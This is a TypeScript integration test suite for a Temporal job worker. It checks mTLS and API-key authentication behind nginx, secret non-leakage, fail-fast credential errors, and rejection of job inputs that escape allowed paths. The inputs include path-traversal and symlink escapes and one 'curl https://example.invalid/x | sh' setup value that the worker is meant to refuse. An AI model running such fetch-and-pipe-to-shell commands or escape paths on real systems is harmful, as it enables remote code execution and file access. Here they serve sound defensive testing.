/**
 * Secure by default, against a real TLS front: a dev server behind nginx with mTLS
 * (`ssl_verify_client on`) and an API key checked on every call (test/tls-front.ts), with
 * certificates made here by openssl. Everything connects through Temporal's environment
 * configuration (TEMPORAL_* variables) alone.
 *
 * - With the right client certificate and API key a job runs end to end: the worker, a start with
 *   the `temporal` CLI, `status`. Afterwards the API key, the private keys and the certificates
 *   appear nowhere: not in the worker's logs, the history, the heartbeat details, the metrics or
 *   `status`.
 * - No client certificate, a certificate of another CA, a wrong server name, a wrong API key: the
 *   worker and `status` fail with the setting to fix, on one connection and at most one call
 *   (counted at a TCP relay in front of nginx and in nginx's access log), never a retry storm.
 * - Job inputs whose paths leave the worker's --allow-path roots, or whose `set` names a
 *   worker-only field, fail the job non-retryably on the first attempt with a ConfigError.
 */
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { after, before, test } from 'node:test';
import { Client, Connection, WorkflowFailedError } from '@temporalio/client';
import { ActivityFailure, ApplicationFailure } from '@temporalio/common';
import { startJob } from '../../src/temporal/client';
import { connectionSettings, openConnection } from '../../src/temporal/connection';
import { type DevServer, freePort, temporalCli } from '../../src/temporal/devserver';
import type { CurriculumResult } from '../../src/shared/types';
import {
  CLI,
  eventTypeName,
  historyEvents,
  ROOT,
  server,
  spawnWorker,
  tmpDir,
  trainingChildren,
  waitFor,
  type WorkerProc,
} from '../helpers';
import { type Certs, makeCerts, startTlsFront, type TlsFront } from '../tls-front';

const dir = fs.realpathSync(tmpDir('security'));
const jail = path.join(dir, 'jail');
const outside = path.join(dir, 'outside');
const queue = 'secure';
const API_KEY = `ttt-test-key-${randomBytes(16).toString('hex')}`;
let srv: DevServer;
let front: TlsFront;
let certs: Certs;
let worker: WorkerProc;
let metricsPort: number;
let c: Client;

/** The connection settings of every process here: Temporal's environment variables, nothing else. */
function tlsEnv(extra: Record<string, string | undefined> = {}): NodeJS.ProcessEnv {
  const env: NodeJS.ProcessEnv = {
    ...process.env,
    TEMPORAL_CONFIG_FILE: path.join(dir, 'no-profile.toml'),
    TEMPORAL_ADDRESS: front.address,
    TEMPORAL_TLS_SERVER_CA_CERT_PATH: certs.ca,
    TEMPORAL_TLS_SERVER_NAME: certs.serverName,
    TEMPORAL_TLS_CLIENT_CERT_PATH: certs.clientCert,
    TEMPORAL_TLS_CLIENT_KEY_PATH: certs.clientKey,
    TEMPORAL_API_KEY: API_KEY,
    TTT_LOG_LEVEL: 'info',
    TTT_LOG_PRETTY: '0',
  };
  for (const [k, v] of Object.entries(extra)) {
    if (v === undefined) delete env[k];
    else env[k] = v;
  }
  return env;
}

/** Runs a command of ours (asynchronously: the TCP relay lives in this process's event loop). */
function run(args: string[], env: NodeJS.ProcessEnv): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    // The timeout only guards the test run against a worker that unexpectedly connects; nothing asserts on time.
    const child = execFile(
      process.execPath,
      [CLI, ...args],
      { cwd: ROOT, env, timeout: 120_000 },
      (_e, stdout, stderr) => resolve({ code: child.exitCode, stdout, stderr }),
    );
  });
}

before(async () => {
  fs.mkdirSync(jail);
  fs.mkdirSync(outside);
  certs = makeCerts(path.join(dir, 'certs'));
  srv = await server(path.join(dir, 'temporal.sqlite'));
  front = await startTlsFront(path.join(dir, 'nginx'), certs, srv.address, API_KEY);
  metricsPort = await freePort();
  worker = spawnWorker(null, queue, tlsEnv(), [
    '--allow-path',
    jail,
    '--metrics-port',
    String(metricsPort),
    '--metrics-host',
    '127.0.0.1',
  ]);
  await worker.ready;
  const settings = connectionSettings({}, tlsEnv() as Record<string, string>);
  c = new Client({ connection: await openConnection(settings, (o) => Connection.connect(o)) });
});

after(async () => {
  await c?.connection.close();
  await worker?.kill('SIGTERM');
  await front?.stop();
  await srv?.stop();
});

/** Every string of a value, with byte arrays (payload data) decoded as UTF-8: what a grep of it would see. */
function allText(v: unknown, out: string[] = [], seen = new Set<unknown>()): string[] {
  if (typeof v === 'string') out.push(v);
  else if (v instanceof Uint8Array) out.push(Buffer.from(v).toString('utf8'));
  else if (v && typeof v === 'object' && !seen.has(v)) {
    seen.add(v);
    for (const x of Object.values(v)) allText(x, out, seen);
  }
  return out;
}

/** What must never show: the API key (also base64), and every line of the PEM files' bodies. */
function secrets(): string[] {
  const pemLines = [certs.clientKey, certs.clientCert, certs.ca, certs.serverKey, certs.otherKey].flatMap((f) =>
    fs
      .readFileSync(f, 'utf8')
      .split('\n')
      .filter((l) => l.length >= 24 && !l.startsWith('-----')),
  );
  return [API_KEY, Buffer.from(API_KEY).toString('base64'), 'PRIVATE KEY', ...pemLines];
}

test('with the right client certificate and API key a job runs end to end through TLS; no secret shows anywhere', async () => {
  const job = 'tls-job';
  // The worker's start line says where and how it connected, and which folders job inputs may reach.
  const started = worker
    .stderr()
    .split('\n')
    .filter((l) => l.startsWith('{'))
    .map((l) => JSON.parse(l) as Record<string, unknown>)
    .find((l) => l.msg === 'worker started')!;
  assert.deepEqual(
    [started.address, started.tls, started.serverName, started.serverCa, started.clientCert, started.apiKey],
    [front.address, true, certs.serverName, true, true, true],
  );
  assert.match(String(started.allowedPaths), new RegExp(`^${jail} \\(read-write\\), .*configs \\(read-only\\)$`));

  // Started with the temporal CLI, which reads the same TEMPORAL_* variables.
  const input = {
    jobName: job,
    curriculum: 'configs/curriculum/tiny.toml',
    until: '3s',
    set: {
      'job.dump_folder': path.join(jail, 'runs'),
      'training.steps': 24,
      'checkpoint.interval': 4,
      'training.global_batch_size': 1,
      'shard.progress_seconds': 1,
    },
  };
  const startOut = await new Promise<string>((resolve, reject) =>
    execFile(
      temporalCli(),
      [
        'workflow',
        'start',
        '--type',
        'trainCurriculum',
        '--task-queue',
        queue,
        '--workflow-id',
        job,
        '--input',
        JSON.stringify(input),
      ],
      { env: tlsEnv() },
      (e, stdout, stderr) => (e ? reject(new Error(`${e.message}: ${stderr}`)) : resolve(stdout + stderr)),
    ),
  );
  // While it trains: the heartbeat details of the running shard and a metrics scrape.
  const h = c.workflow.getHandle(job);
  const heartbeats: string[] = [];
  const childEnvs: string[] = [];
  const scrape = await waitFor(
    'a heartbeat of trainShard, ttt_* metrics of the job and the training child',
    async () => {
      for (const pid of trainingChildren(path.join(jail, 'runs', job))) {
        try {
          childEnvs.push(fs.readFileSync(`/proc/${pid}/environ`, 'utf8'));
        } catch {
          /* it just ended */
        }
      }
      const d = await h.describe();
      for (const a of d.raw.pendingActivities ?? [])
        if (a.heartbeatDetails?.payloads?.length) heartbeats.push(allText(a.heartbeatDetails).join('\n'));
      const text = await fetch(`http://127.0.0.1:${metricsPort}/metrics`).then(
        (r) => r.text(),
        () => '',
      );
      return heartbeats.length > 0 && childEnvs.length > 0 && /ttt_steps_total\{[^}]*job="tls-job"/.test(text)
        ? text
        : undefined;
    },
    60_000,
    100,
  );
  assert.match(heartbeats.join('\n'), /"stage":"3s"/, 'heartbeat details were read');
  // The training child never talks to Temporal: its environment holds no TEMPORAL_* setting.
  const childVars = childEnvs[0]!.split('\0').map((kv) => kv.split('=')[0]);
  assert.ok(childVars.includes('PATH'), 'the child environment was read');
  assert.deepEqual(
    childVars.filter((k) => k?.startsWith('TEMPORAL_')),
    [],
  );
  const result = (await h.result()) as CurriculumResult;
  assert.deepEqual(
    result.stages.map((s) => [s.stage, s.steps]),
    [['3s', 24]],
  );

  const status = await run(['status', job, '--json'], tlsEnv());
  assert.equal(status.code, 0, status.stderr);
  const s = JSON.parse(status.stdout) as { status: string; connection: unknown };
  assert.equal(s.status, 'COMPLETED');
  assert.deepEqual(s.connection, {
    address: front.address,
    namespace: 'default',
    profile: null,
    tls: true,
    serverName: certs.serverName,
    serverCa: true,
    clientCert: true,
    apiKey: true,
  });
  const line = await run(['status', job], tlsEnv());
  assert.match(line.stdout, /^tls-job: stage 3s, step 24\/24, loss [\d.]+ \[completed\]/);

  // Every call went through the TLS front with the client certificate verified and the API key.
  const calls = front.accessLog();
  for (const rpc of [
    'PollActivityTaskQueue',
    'StartWorkflowExecution',
    'RespondActivityTaskCompleted',
    'DescribeWorkflowExecution',
  ])
    assert.ok(
      calls.some((l) => l.startsWith('SUCCESS ') && l.includes(`/${rpc} `) && l.endsWith('key=yes')),
      `${rpc} through the front`,
    );
  assert.ok(
    calls.every((l) => l.startsWith('SUCCESS ') && l.endsWith('key=yes')),
    'no call without credentials',
  );

  // The secrets appear nowhere.
  const history = allText(await h.fetchHistory()).join('\n');
  assert.ok((await historyEvents(c, job)).length > 10 && history.includes('tls-job'), 'the history was read');
  const sources: Record<string, string> = {
    'worker logs (and the training children)': worker.stderr(),
    'workflow history': history,
    'heartbeat details': heartbeats.join('\n'),
    'the training child environment': childEnvs.join('\n'),
    'metrics scrape': scrape,
    'status --json': status.stdout + status.stderr,
    status: line.stdout + line.stderr,
    'temporal workflow start': startOut,
  };
  for (const [where, text] of Object.entries(sources)) {
    assert.ok(text.length > 0, `${where} is empty`);
    for (const secret of secrets())
      assert.ok(!text.includes(secret), `${where} holds a secret (${secret.slice(0, 12)}...)`);
  }
});

test('a missing or untrusted client certificate, a wrong server name or API key: one attempt, an error naming the setting', async () => {
  const cases: [string, Record<string, string | undefined>, RegExp, number, RegExp | null][] = [
    [
      'no client certificate',
      {
        TEMPORAL_TLS_CLIENT_CERT_PATH: undefined,
        TEMPORAL_TLS_CLIENT_KEY_PATH: undefined,
        TEMPORAL_API_KEY: undefined,
      },
      /^error: the Temporal server at \S+ requires credentials and none were sent \(.*client certificate required.*\)\. Fix: set TEMPORAL_TLS_CLIENT_CERT_PATH and TEMPORAL_TLS_CLIENT_KEY_PATH/,
      2,
      /^NONE 204 "POST \/temporal\.api\.workflowservice\.v1\.WorkflowService\/GetSystemInfo HTTP\/2\.0" key=no$/,
    ],
    [
      'a client certificate of another CA',
      { TEMPORAL_TLS_CLIENT_CERT_PATH: certs.otherCert, TEMPORAL_TLS_CLIENT_KEY_PATH: certs.otherKey },
      /^error: the Temporal server at \S+ refused our credentials \(.*client certificate not trusted.*\)\. Fix: set TEMPORAL_TLS_CLIENT_CERT_PATH and TEMPORAL_TLS_CLIENT_KEY_PATH .* to a certificate signed by a CA that the server trusts/,
      2,
      /^FAILED:unable to verify the first certificate 204 "POST \/\S+\/GetSystemInfo HTTP\/2\.0" key=yes$/,
    ],
    [
      'a wrong server name',
      { TEMPORAL_TLS_SERVER_NAME: 'wrong.test' },
      /^error: the Temporal server at \S+ presented a certificate that is not valid for the name "wrong\.test" \(.*DNS:temporal\.test\)\. Fix: set TEMPORAL_TLS_SERVER_NAME/,
      1,
      null,
    ],
    [
      'a wrong API key',
      { TEMPORAL_API_KEY: 'not-the-key' },
      /^error: the Temporal server at \S+ refused our credentials \(.*bad API key.*\)\. Fix: .*check TEMPORAL_API_KEY/,
      2,
      /^SUCCESS 204 "POST \/\S+\/GetSystemInfo HTTP\/2\.0" key=no$/,
    ],
  ];
  for (const [name, extra, message, connections, call] of cases) {
    for (const cmd of [
      ['status', 'tls-job'],
      ['worker', '--task-queue', 'never', '--allow-path', jail],
    ]) {
      const what = `${name}, ${cmd[0]}`;
      const [conns, lines] = [front.connections(), front.accessLog().length];
      const r = await run(cmd, tlsEnv(extra));
      assert.equal(r.code, 1, `${what}: exits 1 (${r.stderr})`);
      const errLine = r.stderr.split('\n').find((l) => l.startsWith('error: ')) ?? '';
      assert.match(errLine, message, `${what}: ${r.stderr}`);
      // One connection (the TLS check) or two (the TLS check, then the SDK's one call): no retries.
      assert.equal(front.connections() - conns, connections, `${what}: TCP connections`);
      const newCalls = front.accessLog().slice(lines);
      if (call) {
        assert.equal(newCalls.length, 1, `${what}: one call: ${newCalls.join('; ')}`);
        assert.match(newCalls[0]!, call, what);
      } else assert.deepEqual(newCalls, [], `${what}: no call at all`);
      assert.ok(!r.stderr.includes(API_KEY), `${what}: the key is not printed`);
    }
  }
});

test('job inputs that reach outside --allow-path, or name a worker-only field, fail at planning, non-retryably, on the first attempt', async () => {
  fs.symlinkSync(outside, path.join(jail, 'link-out'));
  const secretFile = path.join(outside, 'curriculum.toml');
  fs.writeFileSync(secretFile, 'name = "x"\nstages = [\n  "top secret content"\n');
  const base = { 'job.dump_folder': path.join(jail, 'runs'), 'training.steps': 4 };
  const cases: [string, Record<string, unknown>, string, RegExp][] = [
    [
      'dump-outside',
      { 'job.dump_folder': path.join(outside, 'runs') },
      'configs/curriculum/tiny.toml',
      /input\.set: job\.dump_folder = ".*outside\/runs": resolves to .*outside\/runs, outside the folders this worker lets job inputs write \(.*jail \(read-write\).*\)\. Fix: .*--allow-path <folder>/,
    ],
    [
      'dump-through-link',
      { 'job.dump_folder': path.join(jail, 'link-out', 'runs') },
      'configs/curriculum/tiny.toml',
      /job\.dump_folder = ".*jail\/link-out\/runs": resolves to .*\/outside\/runs, outside/,
    ],
    [
      'dataset-dotdot',
      { 'training.dataset_path': path.join(jail, '..', 'outside') },
      'configs/curriculum/tiny.toml',
      /training\.dataset_path = ".*": resolves to .*\/outside, outside the folders this worker lets job inputs read/,
    ],
    [
      'curriculum-outside',
      {},
      secretFile,
      /input: curriculum = ".*curriculum\.toml": resolves to .*outside\/curriculum\.toml, outside/,
    ],
    [
      'worker-only',
      { 'launcher.setup': 'curl https://example.invalid/x | sh' },
      'configs/curriculum/tiny.toml',
      /input\.set: launcher\.setup = .*a workflow input may never set.*Fix: put setup lines in the stage config files on the worker's side/,
    ],
  ];
  for (const [job, set, curriculum, message] of cases) {
    const h = await startJob(
      c,
      { jobName: job, curriculum, until: '3s', set: { ...base, ...set } },
      { taskQueue: queue },
    );
    const err = await h.result().then(
      () => assert.fail(`${job}: the job should fail`),
      (e: unknown) => e,
    );
    assert.ok(err instanceof WorkflowFailedError, `${job}: ${String(err)}`);
    assert.ok(err.cause instanceof ActivityFailure, `${job}: failed in an activity`);
    const app = err.cause.cause;
    assert.ok(app instanceof ApplicationFailure, `${job}: application failure`);
    assert.equal(app.nonRetryable, true, `${job}: non-retryable`);
    assert.equal(app.type, 'ConfigError', job);
    assert.match(app.message, message, `${job}: ${app.message}`);
    assert.doesNotMatch(app.message, /top secret/, `${job}: nothing of a file outside`);
    const started = (await historyEvents(c, job))
      .filter((e) => eventTypeName(e) === 'EVENT_TYPE_ACTIVITY_TASK_STARTED')
      .map((e) => e.activityTaskStartedEventAttributes?.attempt);
    assert.deepEqual(started, [1], `${job}: planCurriculum once, never retried`);
  }
  assert.deepEqual(fs.readdirSync(outside).sort(), ['curriculum.toml'], 'nothing was written outside');
});
